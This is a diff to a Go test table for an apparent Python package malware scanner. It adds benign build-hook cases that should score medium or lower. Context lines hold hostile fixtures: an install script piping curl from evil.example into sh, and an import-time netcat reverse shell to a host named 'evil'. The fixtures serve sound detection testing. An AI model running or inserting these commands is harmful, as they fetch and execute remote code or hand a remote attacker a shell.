@@ -86,6 +86,23 @@ def report():
 `}}},
 		{name: "bundled-elf-sdist", rule: "pkg-bundled-binary", sev: finding.High, files: []file{{"setup.py", benignSetup}, {"evilpkg/bin/helper", elf(2)}}},
 		{name: "curl-sh-script", rule: "pkg-bundled-binary", sev: finding.High, files: []file{{"install.sh", "#!/bin/sh\ncurl -fsSL http://evil.example/i | sh\n"}}},
+		{name: "build-ext-cmake", max: finding.Medium, files: []file{{"setup.py", `import subprocess
+from setuptools import setup, Extension
+from setuptools.command.build_ext import build_ext
+
+class CMakeBuild(build_ext):
+    def build_extension(self, ext):
+        subprocess.check_call(["cmake", ext.sourcedir])
+
+setup(name="goodpkg", ext_modules=[Extension("goodpkg._c", [])], cmdclass={"build_ext": CMakeBuild})
+`}, {"PKG-INFO", benignPKGINFO}}},
+		{name: "empty-description-with-hook", rule: "pkg-metadata", sev: finding.Medium, files: []file{{"PKG-INFO", "Metadata-Version: 2.1\nName: goodpkg\nVersion: 1.0\n"}, {"setup.py", `from setuptools import setup
+from setuptools.command.develop import develop
+class D(develop):
+    def run(self):
+        develop.run(self)
+setup(name="goodpkg", cmdclass={"develop": D})
+`}}},
 		{name: "import-time-command", rule: "pkg-exec-at-import", sev: finding.Critical, files: []file{{"evilpkg/__init__.py", "import subprocess\nsubprocess.Popen(['nc', '-e', '/bin/sh', 'evil', '1'])\n"}}},
 	}
 	for _, tt := range tests {
